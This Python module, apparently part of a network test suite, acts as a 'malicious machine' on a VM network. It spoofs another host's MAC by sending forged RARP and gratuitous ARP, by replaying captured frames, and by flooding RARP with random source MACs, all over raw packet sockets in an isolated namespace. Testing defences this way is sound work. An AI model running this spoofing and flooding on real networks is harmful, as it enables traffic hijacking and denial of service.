"""A malicious machine on the VM network: says with somebody else's MAC that it is here.

    python -m experiments.attacker claim  DEVICE MAC IP --rate 200      RARP and gratuitous ARP of MAC
    python -m experiments.attacker replay DEVICE MAC IP --rate 200      first listens; what it heard of MAC
    python -m experiments.attacker flood  DEVICE MAC IP --rate 20000    RARP for one random MAC after another

It writes `ready` when it begins to send, and ends with a line "<frames sent>". Raw frames on a packet socket, into a
namespace of this run: nothing else can hear them.
"""

import argparse
import random
import socket
import sys
import time
from collections.abc import Iterator

from experiments.children import say_ready
from hosts.announce import frames

_ETH_P_ALL = 3
_HEARD_WITHIN_S = 10.0


def claims(mac: str, ip: str) -> Iterator[bytes]:
    """The third goes to somebody else each time: a cache in the switch that knows the other two has to look at it."""
    (rarp, garp), chance = frames("both", mac, ip), random.Random(1)
    while True:
        yield from (rarp, garp, b"\x02" + chance.randbytes(5) + rarp[6:])


def floods(mac: str, ip: str) -> Iterator[bytes]:
    """The same RARP with another sender each time, locally administered."""
    (frame,), mine, chance = frames("rarp", mac, ip), bytes.fromhex(mac.replace(":", "")), random.Random(1)
    while True:
        yield frame.replace(mine, b"\x02" + chance.randbytes(5))


def replays(sock: socket.socket, mac: str) -> Iterator[bytes]:
    """Every frame of this MAC that came here by itself, which the switch has flooded; TimeoutError if there is none."""
    mine, heard = bytes.fromhex(mac.replace(":", "")), list[bytes]()
    sock.settimeout(_HEARD_WITHIN_S)
    while not heard:
        frame = sock.recv(2048)
        heard += [frame] if frame[6:12] == mine else []
    while True:
        yield from heard


def main() -> int:
    parser = argparse.ArgumentParser(prog="python -m experiments.attacker", description="A malicious machine.")
    parser.add_argument("kind", choices=("claim", "replay", "flood"))
    for word in ("device", "mac", "ip"):
        parser.add_argument(word)
    parser.add_argument("--seconds", type=float, default=2.0)
    parser.add_argument("--rate", type=float, default=200.0, help="frames a second")
    options = parser.parse_args()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as sock:
        sock.bind((options.device, _ETH_P_ALL))
        kinds = {"claim": claims, "flood": floods}
        try:
            lies = kinds[options.kind](options.mac, options.ip) if options.kind in kinds else replays(sock, options.mac)
            first = next(lies)
        except TimeoutError:
            print(f"nothing of {options.mac} came here within {_HEARD_WITHIN_S:g} s", file=sys.stderr)
            return 1
        say_ready()
        print(_send(sock, first, lies, options.seconds, options.rate), flush=True)
    return 0


def _send(sock: socket.socket, first: bytes, lies: Iterator[bytes], seconds: float, rate: float) -> int:
    began, sent, frame = time.monotonic(), 0, first
    while (passed := time.monotonic() - began) < seconds:
        while sent < passed * rate:
            sock.send(frame)
            frame, sent = next(lies), sent + 1
        time.sleep(0.001)
    return sent


if __name__ == "__main__":
    sys.exit(main())
